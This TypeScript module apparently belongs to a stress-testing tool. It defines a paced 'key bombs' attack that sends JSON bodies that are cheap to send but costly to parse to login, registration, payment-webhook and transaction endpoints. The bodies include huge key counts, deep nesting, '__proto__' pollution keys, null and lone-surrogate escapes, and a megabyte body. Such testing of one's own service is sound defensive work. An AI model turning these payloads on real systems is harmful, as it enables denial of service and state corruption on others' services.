import { type Attack, head, open } from './attack';
import { paced } from './paced';

/** As long as an ordinary body may be, so that it is read and looked at. */
const ROOM = 15_500;

const filled = (piece: (n: number) => string, begin: string, end: string) => {
  let text = begin;
  for (let n = 0; text.length + 12 < ROOM - end.length; n++) text += (n ? ',' : '') + piece(n);
  return text + end;
};

const BODIES = [
  filled((n) => `"k${n}":${n}`, '{', '}'),
  filled(() => '{}', '{"documents":[', ']}'),
  filled((n) => `"a${n}":[]`, '{"__proto__":{', '}}'),
  '['.repeat(ROOM / 2) + ']'.repeat(ROOM / 2),
  `{"email":"${'a@'.repeat(ROOM / 3)}","password":"${'\\u0000'.repeat(800)}"}`,
  `{"email":"a@example.test","password":"${'x'.repeat(ROOM - 60)}"}`,
  `{"identity":"${'\\ud800'.repeat(ROOM / 8)}"}`,
];
const PATHS = [
  '/api/auth/login',
  '/api/transactions',
  '/api/auth/register',
  '/api/payments/webhook',
  '/api/notes/document/x',
];
/** The megabyte of keys that once froze a service for a minute. */
const MEGABYTE = `{${Array.from({ length: 110_000 }, (_, n) => `"${n}":1`).join()}}`;

/** Bodies that are small to send and costly to read. */
export const keyBombs: Attack = {
  name: 'key bombs',
  run: (target, note, signal) =>
    paced(target, signal, async (address, count) => {
      const body = count % 10 === 0 ? MEGABYTE : BODIES[count % BODIES.length]!;
      const path = PATHS[count % PATHS.length]!;
      const length = Buffer.byteLength(body);
      const begin = head(`POST ${path}`, { 'content-type': 'application/json', 'content-length': length });
      const status = await open(target, address, begin + body, signal).answered;
      if (!signal.aborted) note(status);
    }),
};
